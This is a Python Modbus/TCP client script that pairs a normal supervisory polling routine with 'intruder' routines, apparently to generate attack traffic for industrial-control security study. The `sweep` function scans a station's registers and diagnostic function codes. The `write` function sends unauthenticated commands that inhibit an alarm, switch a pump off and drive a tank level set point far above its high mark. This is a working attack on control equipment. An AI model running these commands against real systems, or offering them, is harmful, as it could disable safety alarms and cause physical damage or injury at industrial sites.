"""A Modbus/TCP client: the supervisory master's polling (`poll`), and what an intruder does (`sweep`, `write`)."""

import argparse
import random
import socket
import struct
import time


class Client:
    def __init__(self, host):
        self.sock = socket.create_connection((host, 502), timeout=5)
        self.transaction = random.randint(1, 60000)

    def ask(self, pdu, unit=1):
        self.transaction = self.transaction % 65535 + 1
        self.sock.sendall(struct.pack(">HHHB", self.transaction, 0, len(pdu) + 1, unit) + pdu)
        head = self.exactly(7)
        return self.exactly(struct.unpack(">HHHB", head)[2] - 1)

    def exactly(self, size):
        data = b""
        while len(data) < size:
            piece = self.sock.recv(size - len(data))
            if not piece:
                raise ConnectionError("station closed the connection")
            data += piece
        return data


def poll(client, seconds):
    end = time.monotonic() + seconds
    turn = 0
    while time.monotonic() < end:
        client.ask(struct.pack(">BHH", 4, 0, 5))
        client.ask(struct.pack(">BHH", 3, 0, 5))
        if turn % 3 == 0:
            client.ask(struct.pack(">BHH", 1, 0, 5))
        if turn % 40 == 20:  # the operator sets the level set point
            client.ask(struct.pack(">BHH", 6, 0, 300 + turn % 3 * 5))
        turn += 1
        time.sleep(2)


def sweep(client):
    for code in (1, 2, 3, 4):
        for address in range(0, 64, 4):
            client.ask(struct.pack(">BHH", code, address, 4))
            time.sleep(0.03)
    for code in (7, 8, 17, 43):
        client.ask(bytes([code, 0, 0, 0, 0]))


def write(client):
    client.ask(struct.pack(">BHH", 5, 4, 0xFF00))  # alarm inhibit on
    time.sleep(1)
    client.ask(struct.pack(">BHH", 5, 0, 0x0000))  # pump 1 off
    time.sleep(1)
    client.ask(struct.pack(">BHH", 6, 0, 900))  # level set point far above the high mark
    client.ask(struct.pack(">BHHB3H", 16, 1, 3, 6, 2900, 0, 2000))


def main():
    options = argparse.ArgumentParser()
    options.add_argument("action", choices=("poll", "sweep", "write"))
    options.add_argument("host")
    options.add_argument("--seconds", type=float, default=60)
    given = options.parse_args()
    client = Client(given.host)
    if given.action == "poll":
        poll(client, given.seconds)
    elif given.action == "sweep":
        sweep(client)
    else:
        write(client)


main()
